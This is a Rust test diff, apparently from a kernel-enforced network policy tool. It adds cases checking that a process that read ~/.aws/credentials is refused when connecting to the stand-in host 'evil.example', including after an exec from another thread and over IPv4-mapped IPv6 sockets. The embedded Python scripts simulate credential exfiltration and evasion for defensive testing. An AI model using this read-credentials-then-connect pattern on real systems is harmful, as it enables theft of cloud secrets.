@@ -130,6 +130,39 @@ fn connects_outside_every_held_scope_are_refused_in_the_kernel() {
         outcomes(&output),
         pairs(&[("evil.example", "ECONNREFUSED")])
     );
+    // A holder whose other thread execs a new program (the kernel ends the old leader) still
+    // holds; and an IPv6 socket reaching IPv4 (`::ffff:a.b.c.d`, as Java's do) is judged as
+    // IPv4.
+    let after_exec = format!(
+        "import os, threading\n\
+         open(os.path.expanduser('~/.aws/credentials')).read()\n\
+         script = {:?}\n\
+         threading.Thread(target=lambda: os.execv('/usr/bin/python3', ['python3', '-c', script])).start()\n\
+         threading.Event().wait(10)\n",
+        connect_script(false, &["evil.example"])
+    );
+    let (_, output) = python(&ns, &user, &after_exec);
+    assert_eq!(
+        outcomes(&output),
+        pairs(&[("evil.example", "EPERM")]),
+        "after a thread's exec"
+    );
+    let mapped = "import errno, os, socket\n\
+                  open(os.path.expanduser('~/.aws/credentials')).read()\n\
+                  for host, address in [('sts.amazonaws.com', '::ffff:10.77.0.10'), ('evil.example', '::ffff:10.77.0.20')]:\n\
+                  \x20   socket.getaddrinfo(host, 443, socket.AF_INET)\n\
+                  \x20   s = socket.socket(socket.AF_INET6)\n\
+                  \x20   try:\n\
+                  \x20       s.connect((address, 443))\n\
+                  \x20       print(host, 'ok')\n\
+                  \x20   except OSError as e:\n\
+                  \x20       print(host, errno.errorcode.get(e.errno, e.errno))\n";
+    let (_, output) = python(&ns, &user, mapped);
+    assert_eq!(
+        outcomes(&output),
+        pairs(&[("sts.amazonaws.com", "ECONNREFUSED"), ("evil.example", "EPERM")]),
+        "IPv4-mapped IPv6"
+    );
 
     let finding = k.wait_for("the refusal's finding", WAIT, |r| {
         r["type"] == "finding" && r["rule"] == "out-of-scope-use" && r["process"]["pid"] == holder
